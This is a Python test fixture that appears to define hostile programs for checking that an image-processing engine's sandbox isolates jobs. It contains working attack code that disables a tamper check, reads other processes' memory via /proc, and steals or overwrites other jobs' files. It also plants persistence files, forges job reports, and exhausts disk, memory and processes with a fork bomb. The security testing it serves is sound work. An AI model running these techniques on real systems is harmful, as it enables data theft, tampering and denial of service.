"""Hostile programs, as an exploit of a decoder would run them in the process of the engine.

Each begins with `PRELUDE` and works on the next job in its session. `loot` keeps the bytes that it reads, in a file
that a test looks for. A changed image is red.
"""

from __future__ import annotations

PRELUDE = """
import glob, hashlib, io, json, os, re, signal, site, subprocess, sys, time, zipfile
from PIL import Image

os.makedirs("/tmp/loot", exist_ok=True)
known = {"/mnt/data/in-ffffffffffff.bin", *glob.glob("/mnt/data/in-*.bin")}

def loot(data):
    with open(f"/tmp/loot/{os.getpid()}-{time.monotonic_ns()}", "wb") as file:
        file.write(data)

def red(size=(40, 30)):
    packed = io.BytesIO()
    Image.new("RGB", size, "red").save(packed, "PNG")
    return packed.getvalue()

def detach(work):
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                work()
            finally:
                os._exit(0)
        os._exit(0)
    os.waitpid(child, 0)

def next_source():
    while True:
        for path in glob.glob("/mnt/data/in-*.bin"):
            if path not in known:
                return path

def others():
    return [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, os.getpid())]

def send(number):
    for pid in others():
        try:
            os.kill(pid, number)
        except OSError:
            pass
"""

DISABLE = """
for name, module in list(sys.modules.items()):
    if name.endswith(".execution.tamper_check"):
        module.TamperCheck.before_execution = module.TamperCheck.after_execution = lambda self: ""
"""

_HOOK = """
from PIL import Image, ImageFile

def hooked(self, _load=ImageFile.ImageFile.load):
    result = _load(self)
    if "exploit" not in self.info and not hasattr(self, "red"):
        self.red = True
        self.paste("red" if self.mode == "RGB" else 0, (0, 0, *self.size))
    return result

ImageFile.ImageFile.load = hooked
"""

ATTACKS: dict[str, str] = {
    "replaces functions of the interpreter": _HOOK,
    "reads the next source in a detached process": """
def work():
    with open(next_source(), "rb") as file:
        loot(file.read())
detach(work)
""",
    "changes the next source in a detached process": """
data = red()
def work():
    path = next_source()
    send(signal.SIGSTOP)
    with open(path, "wb") as file:
        file.write(data)
    send(signal.SIGCONT)
detach(work)
""",
    "reads the memory of the next kernel": """
def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            start, end = (int(word, 16) for word in line.split()[0].split("-"))
            if line.split()[1].startswith("rw"):
                mem.seek(start)
                yield mem.read(end - start)

def documents():
    for pid in others():
        try:
            for part in memory(pid):
                yield from re.findall(rb'jobs"\\).main\\("([A-Za-z0-9+/=]+)"', part)
        except OSError:
            pass

def work():
    import base64
    name = os.path.basename(next_source()).encode()
    while True:
        send(signal.SIGSTOP)
        for found in documents():
            document = base64.b64decode(found)
            if name in document:
                loot(document)
                return send(signal.SIGCONT)
        send(signal.SIGCONT)
        time.sleep(0.05)
detach(work)
""",
    "changes the engine's archive": f"""
(path,) = glob.glob("/mnt/data/engine-*.zip")
package = zipfile.ZipFile(path).namelist()[0].split("/")[0]
with zipfile.ZipFile(path, "w") as archive:
    archive.writestr(f"{{package}}/__init__.py", {_HOOK!r})
""",
    "leaves start-up files": f"""
hook = {_HOOK!r}
packages = site.getusersitepackages()
for path, code in (
    (f"{{packages}}/zz.pth", f"import sys; exec({{hook!r}})"),
    (f"{{packages}}/usercustomize.py", hook),
    (os.path.expanduser("~/.ipython/profile_default/startup/00.py"), hook),
    (f"{{os.getcwd()}}/zipfile.py", hook),
):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(code)
""",
    "forges the report of the next job": """
data = red()
def work():
    token = os.path.basename(next_source())[3:-4]
    made = {"name": "out", "file": f"forged-{token}", "format": "png", "size": len(data), "width": 40, "height": 30,
            "sha256": hashlib.sha256(data).hexdigest(), "ms": 1.0, "extra": {}, "dropped": []}
    made["file"] = f"out-{token}-0.png"
    body = json.dumps([{"version": 2, "versions": {}, "source": None, "renditions": [made], "failure": None, "ms": {}}])
    head = f"pipeline-report {len(body)} {hashlib.sha256(body.encode()).hexdigest()} -"
    lines = f"\\n{head} {body}\\n{head} {'0' * 32} {body}\\npipeline-engine-missing\\n"
    while os.path.exists(f"/mnt/data/in-{token}.bin"):
        pass
    os.write(1, lines.encode())
detach(work)
""",
    "changes the next renditions in a detached process": """
data = red()
old = set(glob.glob("/mnt/data/out-*"))
def work():
    token = os.path.basename(next_source())[3:-4]
    path = f"/mnt/data/out-{token}-0.png"
    while not os.path.exists(path):
        pass
    while os.path.exists(f"/mnt/data/in-{token}.bin"):
        pass
    with open(path, "wb") as file:
        file.write(data)
detach(work)
""",
    "leaves files": """
for path in ("/mnt/data/in-ffffffffffff.bin", "/mnt/data/asset-0000000000000000.png", "/mnt/data/left.py", "/tmp/left"):
    with open(path, "wb") as file:
        file.write(b"left")
""",
    "fills the disk": """
free = os.statvfs("/mnt/data").f_bavail * os.statvfs("/mnt/data").f_frsize
with open("/mnt/data/in-ffffffffffff.bin", "wb") as file:
    file.write(bytes(free - 32_768))
""",
    "exhausts the memory": """
def work():
    next_source()
    send(signal.SIGSTOP)
    hold = []
    while True:
        hold.append(b"x" * (1 << 24))
detach(work)
""",
    "exhausts the processes": """
def work():
    try:
        while True:
            if os.fork() == 0:
                time.sleep(1000)
    except OSError:
        os.mkdir("/tmp/loot/full")
        time.sleep(1000)
detach(work)
while not os.path.exists("/tmp/loot/full"):
    pass
os.rmdir("/tmp/loot/full")
""",
}


def program(*names: str, disable: bool = True) -> str:
    """Build a hostile program of attacks, which first disables the tamper check or leaves it alone."""
    return "\n".join([PRELUDE, DISABLE * disable, *map(ATTACKS.__getitem__, names)])
